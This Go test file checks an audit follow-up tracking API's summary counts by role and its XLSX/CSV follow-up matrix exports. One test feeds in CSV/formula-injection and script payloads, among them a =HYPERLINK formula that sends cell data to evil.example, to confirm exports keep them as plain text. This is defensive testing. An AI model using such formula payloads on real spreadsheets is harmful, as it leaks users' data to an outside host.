package api_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/xuri/excelize/v2"

	"github.com/tindaklanjut/tindaklanjut/internal/report"
)

// countsDoc is the counts of one group in the summary.
type countsDoc struct {
	Total           int            `json:"total"`
	ByState         map[string]int `json:"by_state"`
	ByAuditCategory map[string]int `json:"by_audit_category"`
	Overdue         int            `json:"overdue"`
	DueIn7Days      int            `json:"due_in_7_days"`
	DueIn30Days     int            `json:"due_in_30_days"`
}

type summaryDoc struct {
	Today string `json:"today"`
	countsDoc
	ByUnit []struct {
		UnitCode string `json:"unit_code"`
		countsDoc
	} `json:"by_unit"`
	ByDomain []struct {
		FrameworkCode string `json:"framework_code"`
		Code          string `json:"code"`
		countsDoc
	} `json:"by_domain"`
	Aspects []struct {
		FrameworkCode string `json:"framework_code"`
		Code          string `json:"code"`
		Name          string `json:"name"`
		countsDoc
	} `json:"aspects"`
}

// aspectCounts returns the summary's aspects by code, failing the test
// unless they are pemdi-2026's seven in order.
func (s summaryDoc) aspectCounts(t *testing.T) map[string]countsDoc {
	t.Helper()
	out := map[string]countsDoc{}
	var order []string
	for _, a := range s.Aspects {
		if a.FrameworkCode != "pemdi-2026" {
			t.Errorf("aspect %s of framework %s", a.Code, a.FrameworkCode)
		}
		out[a.Code] = a.countsDoc
		order = append(order, a.Code)
	}
	if diff := cmp.Diff([]string{"A1", "A2", "A3", "A4", "A5", "A6", "A7"}, order); diff != "" {
		t.Errorf("aspects (-want +got):\n%s", diff)
	}
	return out
}

// states builds a by_state map with every state, the given ones set.
func states(kv ...any) map[string]int {
	m := map[string]int{"draft": 0, "open": 0, "in_progress": 0, "submitted": 0, "closed": 0, "not_actionable": 0}
	for i := 0; i < len(kv); i += 2 {
		m[kv[i].(string)] = kv[i+1].(int)
	}
	return m
}

// categories builds a by_audit_category map.
func categories(sesuai, belumSesuai, belumTL, tidakDapat int) map[string]int {
	return map[string]int{"sesuai": sesuai, "belum_sesuai": belumSesuai, "belum_ditindaklanjuti": belumTL,
		"tidak_dapat_ditindaklanjuti": tidakDapat}
}

// setDue moves a finding's due date directly: the report reads it, and the
// history does not matter here.
func (f *fixture) setDue(id int64, due string) {
	f.t.Helper()
	if err := f.db.Exec(`UPDATE findings SET due_date = ? WHERE id = ?`, due, id).Error; err != nil {
		f.t.Fatal(err)
	}
}

// summarySet builds the hand-counted set of TestReportSummary. Today is
// 2024-09-20 in WITA; the clock is set at 00:30 WITA, which is still
// 2024-09-19 in UTC, so a summary reckoned in UTC would count otherwise.
func summarySet(t *testing.T) *fixture {
	f := newFixture(t)
	f.setNow(time.Date(2024, 9, 19, 16, 30, 0, 0, time.UTC))
	f.findingIn("draft")                                  // due 2024-09-30; auditors, admins and viewers see it
	f.setDue(f.findingIn("open").ID, "2024-09-10")        // overdue
	f.setDue(f.findingIn("open").ID, "2024-09-20")        // due today: in 7 and 30 days
	f.setDue(f.findingIn("in_progress").ID, "2024-09-27") // today + 7: in 7 and 30 days
	f.setDue(f.findingIn("in_progress").ID, "2024-09-28") // today + 8: in 30 days only
	f.setDue(f.findingIn("submitted").ID, "2024-09-01")   // past, but waiting on the auditors: not overdue
	f.findingIn("closed")
	f.findingIn("not_actionable")
	// Unit B: open, due today + 30, linked to indicators of domains D1 and D4.
	var other findingDoc
	mustStatus(t, f.do("POST", "/api/v1/findings", f.tokens["auditor"], fmt.Sprintf(`{"review_id":%d,"title":"Temuan Bappeda",
		"severity":"low","unit_id":%d,"recommendation":"Menyusun SOP","due_date":"2024-10-20","indicator_codes":["I01","I38","I39"]}`,
		f.newReview(""), f.unitB.ID), &other), 201)
	f.mustMove("auditor", other, "issue", "")
	return f
}

func TestReportSummary(t *testing.T) {
	f := summarySet(t)
	// The unit A findings link I21 (domain D3); the unit B one D1 and D4.
	everything := countsDoc{Total: 9,
		ByState:         states("draft", 1, "open", 3, "in_progress", 2, "submitted", 1, "closed", 1, "not_actionable", 1),
		ByAuditCategory: categories(1, 3, 3, 1), Overdue: 1, DueIn7Days: 2, DueIn30Days: 4}
	unitA := countsDoc{Total: 7, ByState: states("open", 2, "in_progress", 2, "submitted", 1, "closed", 1, "not_actionable", 1),
		ByAuditCategory: categories(1, 3, 2, 1), Overdue: 1, DueIn7Days: 2, DueIn30Days: 3}
	unitAWithDraft := unitA
	unitAWithDraft.Total, unitAWithDraft.ByState = 8, states("draft", 1, "open", 2, "in_progress", 2, "submitted", 1, "closed", 1, "not_actionable", 1)
	unitB := countsDoc{Total: 1, ByState: states("open", 1), ByAuditCategory: categories(0, 0, 1, 0), DueIn30Days: 1}
	officer := countsDoc{Total: 4, ByState: states("in_progress", 2, "submitted", 1, "closed", 1),
		ByAuditCategory: categories(1, 3, 0, 0), DueIn7Days: 1, DueIn30Days: 2}
	none := countsDoc{ByState: states(), ByAuditCategory: categories(0, 0, 0, 0)}

	type unit struct {
		Code   string
		Counts countsDoc
	}
	// The aspects of pemdi-2026, through the mapping: unit A's I21 counts
	// on P02 (A1), unit B's I01 on P01 (A1) and its I38 and I39 on P16 and
	// P17 (A6, once).
	aspects := func(a1, a6 countsDoc) map[string]countsDoc {
		return map[string]countsDoc{"A1": a1, "A2": none, "A3": none, "A4": none, "A5": none, "A6": a6, "A7": none}
	}
	tests := []struct {
		who     string
		want    countsDoc
		units   []unit
		domains map[string]countsDoc // D1..D4
		aspects map[string]countsDoc // A1..A7
	}{
		{"auditor", everything, []unit{{"BAPPEDA", unitB}, {"DISKOMINFO", unitAWithDraft}},
			map[string]countsDoc{"D1": unitB, "D2": none, "D3": unitAWithDraft, "D4": unitB}, aspects(everything, unitB)},
		{"admin", everything, []unit{{"BAPPEDA", unitB}, {"DISKOMINFO", unitAWithDraft}},
			map[string]countsDoc{"D1": unitB, "D2": none, "D3": unitAWithDraft, "D4": unitB}, aspects(everything, unitB)},
		// Viewers see what the finding list shows them: everything.
		{"viewer", everything, []unit{{"BAPPEDA", unitB}, {"DISKOMINFO", unitAWithDraft}},
			map[string]countsDoc{"D1": unitB, "D2": none, "D3": unitAWithDraft, "D4": unitB}, aspects(everything, unitB)},
		{"manager", unitA, []unit{{"DISKOMINFO", unitA}}, map[string]countsDoc{"D1": none, "D2": none, "D3": unitA, "D4": none},
			aspects(unitA, none)},
		{"officer", officer, []unit{{"DISKOMINFO", officer}}, map[string]countsDoc{"D1": none, "D2": none, "D3": officer, "D4": none},
			aspects(officer, none)},
	}
	for _, tt := range tests {
		t.Run(tt.who, func(t *testing.T) {
			var got summaryDoc
			mustStatus(t, f.do("GET", "/api/v1/reports/summary", f.tokens[tt.who], "", &got), 200)
			if got.Today != "2024-09-20" {
				t.Errorf("today = %s; want 2024-09-20 (WITA)", got.Today)
			}
			if diff := cmp.Diff(tt.want, got.countsDoc); diff != "" {
				t.Errorf("counts (-want +got):\n%s", diff)
			}
			var units []unit
			for _, u := range got.ByUnit {
				units = append(units, unit{u.UnitCode, u.countsDoc})
			}
			if diff := cmp.Diff(tt.units, units); diff != "" {
				t.Errorf("by unit (-want +got):\n%s", diff)
			}
			domains := map[string]countsDoc{}
			var order []string
			for _, d := range got.ByDomain {
				if d.FrameworkCode != "spbe-2020" {
					t.Errorf("domain %s of framework %s", d.Code, d.FrameworkCode)
				}
				domains[d.Code] = d.countsDoc
				order = append(order, d.Code)
			}
			if diff := cmp.Diff(tt.domains, domains); diff != "" {
				t.Errorf("by domain (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff([]string{"D1", "D2", "D3", "D4"}, order); diff != "" {
				t.Errorf("domain order (-want +got):\n%s", diff)
			}
			if diff := cmp.Diff(tt.aspects, got.aspectCounts(t)); diff != "" {
				t.Errorf("by aspect (-want +got):\n%s", diff)
			}
		})
	}
}

// summaryFinding records a finding of unit (on a review of its own) due on
// due, naming codes, and drives it into state (drive; in_progress and
// beyond in unit A, whose officer takes the action).
func (f *fixture) summaryFinding(unit int64, state, due string, codes ...string) findingDoc {
	f.t.Helper()
	names, _ := json.Marshal(append([]string{}, codes...))
	var fd findingDoc
	mustStatus(f.t, f.do("POST", "/api/v1/findings", f.tokens["auditor"], fmt.Sprintf(`{"review_id":%d,"title":"Temuan",
		"severity":"medium","unit_id":%d,"recommendation":"Menetapkan SK","due_date":%q,"indicator_codes":%s}`,
		f.newReview(""), unit, due, names), &fd), 201)
	return f.drive(fd, state)
}

// TestReportSummaryByAspect counts a set of findings by the aspects of the
// current model, pemdi-2026, by hand: those naming Pemdi indicators
// directly, those left from SPBE whose indicators the mapping carries over,
// each once per aspect however many of its indicators they reach, within
// the scope of each caller, as the other counts. Today is 2 March 2026.
func TestReportSummaryByAspect(t *testing.T) {
	f := newFixture(t)
	f.setNow(time.Date(2026, 3, 2, 9, 0, 0, 0, wita))
	a, b := f.unitA.ID, f.unitB.ID
	f.summaryFinding(a, "open", "2026-02-20", "I29", "I30")        // overdue; P09 twice over: A4 once
	f.summaryFinding(a, "in_progress", "2026-03-05", "P02", "I21") // due in 7 days; P02 itself and through I21: A1 once
	f.summaryFinding(a, "open", "2026-03-25", "I24")               // due in 30 days; P02 and P14: A1 and A5
	f.summaryFinding(a, "draft", "2026-03-31", "I31")              // P09: A4, for those who see drafts
	f.summaryFinding(a, "open", "2026-04-30")                      // no indicator: no aspect
	f.summaryFinding(a, "closed", "2026-02-01", "I09")             // P09: A4; closed, never overdue
	f.summaryFinding(b, "open", "2026-06-30", "P05", "P06")        // two indicators of A3: once
	f.summaryFinding(b, "open", "2026-03-10", "I38", "I39")        // due in 30 days; each onto P16 and P17: A6 once

	none := countsDoc{ByState: states(), ByAuditCategory: categories(0, 0, 0, 0)}
	a1 := countsDoc{Total: 2, ByState: states("open", 1, "in_progress", 1), ByAuditCategory: categories(0, 1, 1, 0),
		DueIn7Days: 1, DueIn30Days: 2}
	a3 := countsDoc{Total: 1, ByState: states("open", 1), ByAuditCategory: categories(0, 0, 1, 0)}
	a4 := countsDoc{Total: 3, ByState: states("draft", 1, "open", 1, "closed", 1), ByAuditCategory: categories(1, 0, 1, 0), Overdue: 1}
	a4NoDraft := countsDoc{Total: 2, ByState: states("open", 1, "closed", 1), ByAuditCategory: categories(1, 0, 1, 0), Overdue: 1}
	a5 := countsDoc{Total: 1, ByState: states("open", 1), ByAuditCategory: categories(0, 0, 1, 0), DueIn30Days: 1}
	a6 := a5
	// The officer holds the actions of the in-progress and the closed
	// finding only.
	officerA1 := countsDoc{Total: 1, ByState: states("in_progress", 1), ByAuditCategory: categories(0, 1, 0, 0), DueIn7Days: 1, DueIn30Days: 1}
	officerA4 := countsDoc{Total: 1, ByState: states("closed", 1), ByAuditCategory: categories(1, 0, 0, 0)}
	all := map[string]countsDoc{"A1": a1, "A2": none, "A3": a3, "A4": a4, "A5": a5, "A6": a6, "A7": none}
	tests := []struct {
		who  string
		want map[string]countsDoc
	}{
		{"auditor", all},
		{"admin", all},
		{"viewer", all},
		{"manager", map[string]countsDoc{"A1": a1, "A2": none, "A3": none, "A4": a4NoDraft, "A5": a5, "A6": none, "A7": none}},
		{"officer", map[string]countsDoc{"A1": officerA1, "A2": none, "A3": none, "A4": officerA4, "A5": none, "A6": none, "A7": none}},
	}
	for _, tt := range tests {
		t.Run(tt.who, func(t *testing.T) {
			var got summaryDoc
			mustStatus(t, f.do("GET", "/api/v1/reports/summary", f.tokens[tt.who], "", &got), 200)
			if got.Today != "2026-03-02" {
				t.Fatalf("today = %s; want 2026-03-02", got.Today)
			}
			if diff := cmp.Diff(tt.want, got.aspectCounts(t)); diff != "" {
				t.Errorf("by aspect (-want +got):\n%s", diff)
			}
			if len(got.Aspects) > 0 && got.Aspects[0].Name != "Tata Kelola dan Manajemen" {
				t.Errorf("A1 is named %q", got.Aspects[0].Name)
			}
		})
	}
}

// --- the follow-up matrix -----------------------------------------------------

// matrixXLSX downloads the XLSX matrix as who and returns its finding rows.
func (f *fixture) matrixXLSX(who, query string) [][]string {
	f.t.Helper()
	rec := f.do("GET", "/api/v1/reports/follow-up-matrix?format=xlsx&"+query, f.tokens[who], "", nil)
	mustStatus(f.t, rec, 200)
	if ct := rec.Header().Get("Content-Type"); ct != report.XLSXContentType {
		f.t.Errorf("Content-Type = %q", ct)
	}
	x, err := excelize.OpenReader(bytes.NewReader(rec.Body.Bytes()))
	if err != nil {
		f.t.Fatal(err)
	}
	defer x.Close()
	rows, err := x.GetRows(report.SheetName)
	if err != nil {
		f.t.Fatal(err)
	}
	if len(rows) < report.HeaderRow {
		f.t.Fatalf("only %d rows", len(rows))
	}
	if diff := cmp.Diff(report.Columns, rows[report.HeaderRow-1]); diff != "" {
		f.t.Errorf("header row (-want +got):\n%s", diff)
	}
	return rows[report.HeaderRow:]
}

// matrixCSV downloads the CSV matrix as who and returns its finding rows.
func (f *fixture) matrixCSV(who, query string) [][]string {
	f.t.Helper()
	rec := f.do("GET", "/api/v1/reports/follow-up-matrix?format=csv&"+query, f.tokens[who], "", nil)
	mustStatus(f.t, rec, 200)
	if ct := rec.Header().Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		f.t.Errorf("Content-Type = %q", ct)
	}
	body, ok := bytes.CutPrefix(rec.Body.Bytes(), []byte("\xef\xbb\xbf"))
	if !ok {
		f.t.Fatalf("no UTF-8 byte-order mark: %q", rec.Body.Bytes()[:min(rec.Body.Len(), 8)])
	}
	r := csv.NewReader(bytes.NewReader(body))
	r.Comma = ';'
	recs, err := r.ReadAll()
	if err != nil {
		f.t.Fatal(err)
	}
	if diff := cmp.Diff(report.Columns, recs[0]); diff != "" {
		f.t.Errorf("header (-want +got):\n%s", diff)
	}
	return recs[1:]
}

// codesOf returns the finding code at the head of each row's Temuan.
func codesOf(rows [][]string) []string {
	out := []string{}
	for _, r := range rows {
		code, _, _ := strings.Cut(r[1], "\n")
		out = append(out, code)
	}
	return out
}

func TestMatrixHoldsExactlyTheFilteredFindingsInListOrder(t *testing.T) {
	f := summarySet(t)
	tests := []struct{ who, query string }{
		{"auditor", ""},
		{"auditor", "state=in_progress,submitted"},
		{"auditor", "state=open&state=in_progress"},
		{"auditor", "overdue=true"},
		{"auditor", "unit_id=" + fmt.Sprint(f.unitB.ID)},
		{"auditor", "due_after=2024-09-10&due_before=2024-09-30"},
		{"auditor", "indicator=I21&severity=high"},
		{"auditor", "q=Bappeda"},
		{"manager", ""},
		{"officer", ""},
		{"officer", "state=closed"},
		{"viewer", "state=draft"},
	}
	for _, tt := range tests {
		t.Run(tt.who+" "+tt.query, func(t *testing.T) {
			f := *f
			f.t = t
			want := f.listCodes(tt.who, tt.query, 2)
			for format, rows := range map[string][][]string{"xlsx": f.matrixXLSX(tt.who, tt.query), "csv": f.matrixCSV(tt.who, tt.query)} {
				if diff := cmp.Diff(want, codesOf(rows)); diff != "" {
					t.Errorf("%s codes (-list +matrix):\n%s", format, diff)
				}
				for i, r := range rows {
					if len(r) != len(report.Columns) || r[0] != fmt.Sprint(i+1) {
						t.Errorf("%s row %d: %d cells, No %q", format, i+1, len(r), r[0])
					}
				}
			}
		})
	}
	if n := len(f.listCodes("auditor", "", 200)); n != 9 {
		t.Errorf("the set has %d findings; the cases above assume 9", n)
	}
}

func TestMatrixColumns(t *testing.T) {
	f := newFixture(t)
	f.setNow(time.Date(2024, 9, 20, 9, 0, 0, 0, wita))
	rejected := f.findingIn("submitted")
	mustStatus(t, f.move("auditor", rejected.ID, "reject", "Lampiran SK belum ditandatangani", rejected.Version), 200)
	f.findingIn("not_actionable")
	f.findingIn("closed")
	f.setDue(f.findingIn("open").ID, "2024-09-10")

	rows := f.matrixXLSX("auditor", "")
	if len(rows) != 4 {
		t.Fatalf("%d rows; want 4", len(rows))
	}
	byStatus := map[string][]string{}
	for _, r := range rows {
		byStatus[r[5]] = r
	}
	officer := f.users["officer"].Name
	checks := []struct {
		status string
		col    int
		want   []string
	}{
		{"Belum sesuai", 1, []string{rejected.Code, "Peta rencana manajemen risiko SPBE belum ada", "Kondisi: Belum ada dokumen peta rencana."}},
		{"Belum sesuai", 2, []string{"Menyusun dan menetapkan peta rencana manajemen risiko SPBE"}},
		{"Belum sesuai", 3, []string{"1. Menyusun SK tim manajemen risiko", officer, "selesai", "31 Agustus 2024"}},
		{"Belum sesuai", 4, []string{"Surat Keputusan (SK)", "188.44/0123/KUM/2024", "20 Agustus 2024", "SK Tim Risiko.pdf"}},
		{"Belum sesuai", 6, []string{"Batas waktu: 30 September 2024", "Alasan penolakan terakhir: Lampiran SK belum ditandatangani",
			"Unit: Dinas Komunikasi dan Informatika"}},
		{"Tidak dapat ditindaklanjuti", 6, []string{"Alasan tidak dapat ditindaklanjuti: Aplikasi telah dihentikan"}},
		{"Tidak dapat ditindaklanjuti", 3, []string{"Belum ada tindak lanjut"}},
		{"Sesuai", 4, []string{"SK Tim Risiko.pdf"}},
		{"Belum ditindaklanjuti", 6, []string{"Batas waktu: 10 September 2024", "Terlambat"}},
		{"Belum ditindaklanjuti", 4, []string{"Belum ada bukti dukung"}},
	}
	for _, c := range checks {
		r := byStatus[c.status]
		if r == nil {
			t.Errorf("no row with status %q in %q", c.status, rows)
			continue
		}
		for _, w := range c.want {
			if !strings.Contains(r[c.col], w) {
				t.Errorf("%s: %s = %q lacks %q", c.status, report.Columns[c.col], r[c.col], w)
			}
		}
	}
	if strings.Contains(byStatus["Sesuai"][6], "Terlambat") || strings.Contains(byStatus["Sesuai"][6], "penolakan") {
		t.Errorf("closed finding's note: %q", byStatus["Sesuai"][6])
	}
}

// TestMatrixIndicatorColumn: the Indikator column names each finding's
// indicators, an older model's code with what it maps onto in the current
// model, in both formats.
func TestMatrixIndicatorColumn(t *testing.T) {
	f := newFixture(t)
	f.setNow(time.Date(2026, 3, 2, 9, 0, 0, 0, wita))
	want := map[string]string{
		f.summaryFinding(f.unitA.ID, "open", "2026-04-30", "I21", "I29").Code: "I21 (P02), I29 (P09)",
		f.summaryFinding(f.unitA.ID, "open", "2026-05-31", "P05").Code:        "P05",
		f.summaryFinding(f.unitA.ID, "open", "2026-06-30", "I24", "P09").Code: "I24 (P02, P14), P09",
		f.summaryFinding(f.unitA.ID, "draft", "2026-07-31").Code:              "Tanpa indikator",
	}
	last := slices.Index(report.Columns, "Indikator")
	if last < 0 {
		t.Fatalf("the last column is %q", report.Columns[last])
	}
	for format, rows := range map[string][][]string{"xlsx": f.matrixXLSX("auditor", ""), "csv": f.matrixCSV("auditor", "")} {
		got := map[string]string{}
		for _, r := range rows {
			code, _, _ := strings.Cut(r[1], "\n")
			if len(r) == len(report.Columns) {
				got[code] = r[last]
			}
		}
		if diff := cmp.Diff(want, got); diff != "" {
			t.Errorf("%s: Indikator by finding (-want +got):\n%s", format, diff)
		}
	}
}

func TestMatrixDownloadHeaders(t *testing.T) {
	f := newFixture(t)
	f.setNow(time.Date(2024, 9, 30, 23, 30, 0, 0, wita)) // 15:30 UTC: the date is WITA's
	for _, tc := range []struct{ query, name string }{
		{"format=xlsx", "matriks-tindak-lanjut-2024-09-30.xlsx"},
		{"format=csv", "matriks-tindak-lanjut-2024-09-30.csv"},
		{"", "matriks-tindak-lanjut-2024-09-30.xlsx"}, // xlsx is the default
	} {
		rec := f.do("GET", "/api/v1/reports/follow-up-matrix?"+tc.query, f.tokens["manager"], "", nil)
		mustStatus(t, rec, 200)
		if got, want := rec.Header().Get("Content-Disposition"), `attachment; filename="`+tc.name+`"`; got != want {
			t.Errorf("%s: Content-Disposition = %q; want %q", tc.query, got, want)
		}
		if got := rec.Header().Get("X-Content-Type-Options"); got != "nosniff" {
			t.Errorf("%s: X-Content-Type-Options = %q", tc.query, got)
		}
	}
}

func TestMatrixTextStaysText(t *testing.T) {
	f := newFixture(t)
	rev := f.newReview("")
	hostile := []struct{ title, recommendation string }{
		{`=HYPERLINK("http://evil.example/?d="&A1,"Klik")`, `=HYPERLINK("http://evil.example","Klik")`},
		{"+1", "+1+2"},
		{"@SUM(1,2)", "@SUM(1,2)"},
		{"-2+3", "-2+3"},
		{"<script>alert(1)</script>", "<script>alert('x')</script>"},
	}
	for _, h := range hostile {
		body := fmt.Sprintf(`{"review_id":%d,"title":%q,"recommendation":%q,"severity":"low","unit_id":%d,"due_date":"2024-09-30"}`,
			rev, h.title, h.recommendation, f.unitA.ID)
		var fd findingDoc
		mustStatus(t, f.do("POST", "/api/v1/findings", f.tokens["auditor"], body, &fd), 201)
	}

	rec := f.do("GET", "/api/v1/reports/follow-up-matrix?format=xlsx", f.tokens["auditor"], "", nil)
	mustStatus(t, rec, 200)
	x, err := excelize.OpenReader(bytes.NewReader(rec.Body.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	for i, h := range hostile {
		row := report.HeaderRow + 1 + i
		for col := 2; col <= len(report.Columns); col++ {
			cell, _ := excelize.CoordinatesToCellName(col, row)
			if formula, _ := x.GetCellFormula(report.SheetName, cell); formula != "" {
				t.Errorf("%s holds the formula %q", cell, formula)
			}
			if typ, _ := x.GetCellType(report.SheetName, cell); typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString {
				t.Errorf("%s is of type %v, not a string", cell, typ)
			}
		}
		temuan, _ := x.GetCellValue(report.SheetName, fmt.Sprintf("B%d", row))
		rekomendasi, _ := x.GetCellValue(report.SheetName, fmt.Sprintf("C%d", row))
		if !strings.Contains(temuan, "\n"+h.title) || rekomendasi != h.recommendation {
			t.Errorf("row %d: Temuan %q, Rekomendasi %q; want the text as written", row, temuan, rekomendasi)
		}
	}

	rows := f.matrixCSV("auditor", "")
	for i, h := range hostile {
		want := h.recommendation
		if strings.ContainsAny(want[:1], "=+-@") {
			want = "'" + want
		}
		if rows[i][2] != want {
			t.Errorf("CSV row %d Rekomendasi = %q; want %q", i+1, rows[i][2], want)
		}
		if !strings.Contains(rows[i][1], h.title) {
			t.Errorf("CSV row %d Temuan = %q lacks %q", i+1, rows[i][1], h.title)
		}
	}
}

func TestMatrixRowCap(t *testing.T) {
	f := newFixture(t)
	rev := f.newReview("")
	// One more open finding than the tests' matrix holds.
	err := f.db.Exec(`INSERT INTO findings (code, review_id, title, recommendation, severity, unit_id, due_date, state, created_by)
		SELECT 'TL-2024-' || lpad(g::text, 4, '0'), ?, 'Temuan ' || g, 'Rekomendasi ' || g, 'low', ?, DATE '2024-09-01' + g, 'open', ?
		FROM generate_series(1, ?) AS g`, rev, f.unitA.ID, f.users["auditor"].ID, reportMaxRows+1).Error
	if err != nil {
		t.Fatal(err)
	}
	p := f.problem(f.do("GET", "/api/v1/reports/follow-up-matrix?format=csv", f.tokens["auditor"], "", nil), 422)
	if !strings.Contains(p.Detail, fmt.Sprint(reportMaxRows)) {
		t.Errorf("detail %q does not say the limit", p.Detail)
	}
	// Narrowed to the cap exactly, it is served.
	if rows := f.matrixCSV("auditor", "due_before=2024-09-27"); len(rows) != reportMaxRows {
		t.Errorf("%d rows; want %d", len(rows), reportMaxRows)
	}
}

func TestMatrixBadInput(t *testing.T) {
	f := newFixture(t)
	const path = "/api/v1/reports/follow-up-matrix?"
	tests := []badInput{
		{name: "docx", method: "GET", path: path + "format=docx", status: 422, fields: []string{"format"}},
		{name: "empty format", method: "GET", path: path + "format=", status: 422, fields: []string{"format"}},
		{name: "upper-case format", method: "GET", path: path + "format=XLSX", status: 422, fields: []string{"format"}},
		{name: "state", method: "GET", path: path + "format=csv&state=done", status: 422, fields: []string{"state"}},
		{name: "unit_id", method: "GET", path: path + "format=csv&unit_id=abc", status: 422, fields: []string{"unit_id"}},
		{name: "due_before", method: "GET", path: path + "due_before=2024-13-01", status: 422, fields: []string{"due_before"}},
		{name: "due range", method: "GET", path: path + "due_after=2024-10-01&due_before=2024-09-01", status: 422, fields: []string{"due_after"}},
		{name: "severity", method: "GET", path: path + "severity=huge", status: 422, fields: []string{"severity"}},
		{name: "indicator", method: "GET", path: path + "indicator=" + url.QueryEscape("I 05"), status: 422, fields: []string{"indicator"}},
		{name: "overdue", method: "GET", path: path + "overdue=maybe", status: 422, fields: []string{"overdue"}},
		{name: "q", method: "GET", path: path + "q=" + strings.Repeat("a+", 11), status: 422, fields: []string{"q"}},
		{name: "limit", method: "GET", path: path + "format=csv&limit=10", status: 422, fields: []string{"limit"}},
		{name: "cursor", method: "GET", path: path + "cursor=abc", status: 422, fields: []string{"cursor"}},
	}
	f.checkBadInput(t, tests, func() int64 { return 0 })
	for _, who := range []string{"none", "expired"} {
		f.problem(f.do("GET", path+"format=csv", f.tokens[who], "", nil), 401)
		f.problem(f.do("GET", "/api/v1/reports/summary", f.tokens[who], "", nil), 401)
	}
}
